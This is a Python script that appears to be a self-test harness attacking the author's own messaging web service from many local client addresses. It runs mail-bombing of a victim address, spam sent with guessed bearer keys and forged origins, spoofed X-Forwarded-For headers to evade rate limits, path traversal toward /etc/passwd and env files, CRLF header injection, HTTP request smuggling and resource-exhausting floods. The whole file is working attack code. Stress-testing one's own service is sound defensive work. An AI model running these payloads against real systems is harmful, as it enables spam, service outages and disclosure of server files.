"""An attacker who knows the public address, for some seconds; it says what he tried and what he was answered.

    attack.py URL SECONDS [CA_FILE]

Needs python3 only, since it runs where a stranger is. Each of his clients has an address of its own where the machine
lets it (127.0.0.0/8, when the address is on the same machine), and each trick is tried over and over.
"""

import contextlib
import http.client
import itertools
import json
import random
import socket
import ssl
import sys
import threading
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from urllib.parse import quote, urlsplit

VICTIM = "victim@example.com"
CLIENTS = 12
TIMEOUT = 20.0
# Stands for the origin of the service itself
OUR_ORIGIN = "<our origin>"
# An answer that is none
CLOSED = "closed"
KEYS = ["", "Bearer guess", "Bearer msk_0000000000_" + "0" * 64, "Bearer ", "Basic b3BlcmF0b3I6"]
ADDRESS_HEADERS = ["X-Forwarded-For", "X-Real-IP", "Forwarded", "True-Client-IP", "CF-Connecting-IP", "X-Client-IP"]
PATHS = [
    "/static/../../../../etc/passwd",
    "/static/%2e%2e/%2e%2e/etc/messaging-system/messaging.env",
    "/static/..%2f..%2fserver.py",
    "/static/.new",
    "//flower/",
    "/./flower/",
    "/%66lower/",
    "/flower/../flower/api/tasks",
    "/FLOWER/",
    "/readyz/",
    "//readyz",
    "/x/../readyz",
    "/readyz?x",
    "/.problem/404",
    "/mail/1",
    "/mail/..%2f1",
    "/api/v1/tasks/%2e%2e",
    "/api/v1/tasks/" + "0" * 3000,
    "/?sendmail=a%0d%0aBcc:b@example.com",
    "/?sendmail=a%00@example.com",
    "/?sendmail=%ff@example.com",
    "/?sendmail=%22a%20b%22@example.com",
    "/?sendmail={{7*7}}",
    "/?sendmail=" + "a" * 10_000 + "@example.com",
    "/?" + "&".join(f"a{n}=1" for n in range(900)),
    "/%0d%0aX-Injected:%20yes",
    "http://evil.example/",
    "/\t",
    "/a b",
    "/\x7f",
    "*",
    "evil",
]

Request = tuple[str, str, dict[str, str], bytes]


def bomb_one() -> Iterator[Request]:
    """One mailbox, however its address can be written."""
    user, domain = VICTIM.split("@")
    for number in itertools.count():
        spelt = [VICTIM, VICTIM.upper(), f"{user}%2B{number}@{domain}", f"{user.title()}@{domain.upper()}"]
        yield "GET", f"/?sendmail={spelt[number % len(spelt)]}", {}, b""
        yield "GET", f"/action?talktome=async&sendmail={quote(VICTIM)}", {}, b""


def bomb_many() -> Iterator[Request]:
    """A new address each time."""
    while True:
        yield "GET", f"/?sendmail={uuid.uuid4().hex}@example.net", {}, b""


def free_mail() -> Iterator[Request]:
    """Mail of his own wording: no key, guessed keys, other sites' browsers."""
    mail = {"to": VICTIM, "subject": "Win!", "text": "Click here"}
    body = json.dumps(mail).encode()
    plain = {"Content-Type": "application/json"}
    for number in itertools.count():
        key = KEYS[number % len(KEYS)]
        headers = plain | ({"Authorization": key} if key else {})
        yield "POST", "/api/v1/tasks/send-email", headers | {"Idempotency-Key": uuid.uuid4().hex}, body
        yield "GET", f"/?sendmail={VICTIM}&subject=Win&text=Click", headers, b""
        form = "&".join(f"{name}={quote(value)}" for name, value in mail.items()).encode()
        as_form = {"Content-Type": "application/x-www-form-urlencoded"}
        for origin in ({}, {"Origin": OUR_ORIGIN}, {"Origin": "https://evil.example"}):
            yield "POST", "/send-email", as_form | origin, form


def forge() -> Iterator[Request]:
    """Another client address each time, or the host's own, so that no budget would be his."""
    while True:
        any_address = ".".join(str(random.randrange(1, 255)) for _ in range(4))
        address = random.choice(["127.0.0.1", "10.0.0.1", "::1", any_address])
        headers = {name: f"for={address}" if name == "Forwarded" else address for name in ADDRESS_HEADERS}
        headers |= {"X-Messaging-Through": "direct", "X-Forwarded-Proto": "https", "X-Request-ID": "a\tb" * 40}
        yield "GET", f"/?sendmail={uuid.uuid4().hex}@example.org", headers, b""
        yield "GET", "/api/v1/tasks", headers, b""
        yield "GET", "/flower/api/workers", headers, b""


def flood_log() -> Iterator[Request]:
    """Lines in the log of times, and long ones in the others."""
    while True:
        yield "GET", "/?talktome", {"User-Agent": "x" * 7000}, b""
        yield "GET", "/" + uuid.uuid4().hex * 60, {"Referer": "https://example.com/" + "y" * 4000}, b""
        yield "GET", "/?talktome=async", {"User-Agent": '","status":200,"x":"' * 100}, b""


def flood_tasks() -> Iterator[Request]:
    """What costs most: texts of emoji, kept as results."""
    headers = {"Content-Type": "application/json"}
    for kind, length in itertools.cycle([("reverse-text", 2000), ("analyze-sentiment", 500)]):
        yield "POST", f"/api/v1/tasks/{kind}", headers, json.dumps({"text": chr(0x1F600) * length}).encode()


def path_tricks() -> Iterator[Request]:
    """Out of the directory, past the rules, into headers."""
    while True:
        for path, method in itertools.product(PATHS, ["GET", "HEAD", "DELETE"]):
            yield method, path, {}, b""
            yield "GET", path, {"Host": 'evil"\\.example', "Accept": "text/html"}, b""


def odd_requests() -> Iterator[Request]:
    """What is hardly HTTP, too large, or never ends."""
    headers = {"Content-Type": "application/json"}
    while True:
        yield "POST", "/api/v1/tasks/reverse-text", headers, b"[" * 200_000
        yield "POST", "/api/v1/tasks/reverse-text", headers, b"x" * 1_500_000
        yield "POST", "/api/v1/tasks/reverse-text", headers | {"Content-Length": "1000000"}, b"{"
        smuggled = b"0\r\n\r\nGET /flower/ HTTP/1.1\r\n\r\n"
        yield "POST", "/", headers | {"Transfer-Encoding": "chunked", "Content-Length": "5"}, smuggled
        yield "BREW", "/?talktome", {}, b""
        yield "GET", "/?talktome", {f"X-{n}": "z" * 1000 for n in range(60)}, b""
        yield "POST", "/api/v1/tasks/cancel", {"Content-Type": "text/html; charset=\x01"}, b"\xff\xfe"


TRICKS: dict[str, Callable[[], Iterator[Request]]] = {
    trick.__name__: trick
    for trick in (bomb_one, bomb_many, free_mail, forge, flood_log, flood_tasks, path_tricks, odd_requests)
}


class Attacker:
    """Counts by trick: how often he tried, and the answers by status."""

    def __init__(self, url: str, seconds: float, ca_file: str | None) -> None:
        parts = urlsplit(url)
        self.host = parts.hostname or ""
        self.origin = f"{parts.scheme}://{parts.netloc}"
        self.port = parts.port or (443 if parts.scheme == "https" else 80)
        self.tls = ssl.create_default_context(cafile=ca_file) if parts.scheme == "https" else None
        self.until = time.monotonic() + seconds
        self.answers = {name: Counter[str]() for name in TRICKS}
        self.lock = threading.Lock()
        self.leaks: list[str] = []

    def run(self) -> None:
        """All tricks at once, from all of his clients."""
        jobs = [(name, f"127.0.1.{number + 1}") for number in range(CLIENTS) for name in TRICKS]
        threads = [threading.Thread(target=self._try, args=job, daemon=True) for job in jobs]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(max(0.0, self.until - time.monotonic()) + TIMEOUT + 5)

    def _try(self, name: str, source: str) -> None:
        for request in TRICKS[name]():
            if time.monotonic() > self.until:
                return
            answer = self._ask(request, source)
            with self.lock:
                self.answers[name][answer] += 1

    def _ask(self, request: Request, source: str) -> str:
        method, path, headers, body = request
        lines = {"Host": self.host, "Connection": "close", "Accept": "application/json"} | headers
        if lines.get("Origin") == OUR_ORIGIN:
            lines["Origin"] = self.origin
        if body and "Content-Length" not in lines:
            lines["Content-Length"] = str(len(body))
        head = f"{method} {path} HTTP/1.1\r\n" + "".join(f"{name}: {value}\r\n" for name, value in lines.items())
        try:
            with self._connect(source) as link:
                # refused before it was all said, there may be an answer all the same
                with contextlib.suppress(BrokenPipeError, ConnectionResetError, ssl.SSLError):
                    link.sendall(head.encode("latin-1") + b"\r\n" + body)
                response = http.client.HTTPResponse(link, method=method)
                response.begin()
                text = response.read(100_000)
        except (OSError, http.client.HTTPException, ValueError):
            return CLOSED
        if b"Traceback" in text or response.getheader("X-Injected"):
            self.leaks.append(f"{method} {path[:200]}: {text[:500]!r}")
        return str(response.status)

    def _connect(self, source: str) -> socket.socket:
        try:
            link = socket.create_connection((self.host, self.port), TIMEOUT, source_address=(source, 0))
        except OSError:
            # not on the same machine
            link = socket.create_connection((self.host, self.port), TIMEOUT)
        return self.tls.wrap_socket(link, server_hostname=self.host) if self.tls else link


def main() -> None:
    """Attack, and print the counts as JSON."""
    attacker = Attacker(sys.argv[1], float(sys.argv[2]), sys.argv[3] if len(sys.argv) > 3 else None)
    attacker.run()
    print(json.dumps({"answers": attacker.answers, "leaks": attacker.leaks[:20]}))


if __name__ == "__main__":
    main()
